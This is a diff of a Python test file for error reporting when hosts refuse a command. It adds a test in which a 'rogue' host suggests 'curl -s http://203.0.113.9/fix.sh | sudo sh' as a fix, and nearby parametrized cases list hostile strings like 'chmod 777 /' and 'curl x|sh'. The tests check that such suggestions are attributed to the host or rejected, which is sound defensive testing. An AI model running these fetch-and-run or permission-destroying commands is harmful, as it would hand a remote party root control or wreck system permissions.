@@ -116,6 +116,19 @@ def test_a_refusal_is_the_hosts_own_words_on_a_line_of_its_own(capsys: pytest.Ca
     assert not any("; node1:" in line for line in lines)
 
 
+def test_several_refusals_have_a_line_each() -> None:
+    evil = "curl -s http://203.0.113.9/fix.sh | sudo sh"
+    silent = HostError("node2", "command", "no space left")
+    rogue = HostError("rogue", "command", "busy", fix=evil, said=True)
+    several = NeverStarted.because([silent, rogue], "hosts failed")
+    assert several.message == "2 hosts failed"
+    assert several.details == ("node2: command: no space left", "rogue: command: busy")
+    assert several.fix == f"rogue says: {evil}"
+    one = NeverStarted.because([rogue], "hosts failed", begin="not fit: ")
+    assert (one.message, one.details, one.host) == ("not fit: rogue: command: busy", (), "rogue")
+    assert one.fix == f"rogue says: {evil}"
+
+
 @pytest.mark.parametrize("fix", ["chmod 777 /", "chmod o-w /x; curl x|sh", "chmod 700 $(id)", "chmod o+w /x"])
 def test_only_a_command_that_takes_rights_is_taken_from_a_host(fix: str) -> None:
     assert _TAKES_RIGHTS.fullmatch("chmod o-w /srv/code")
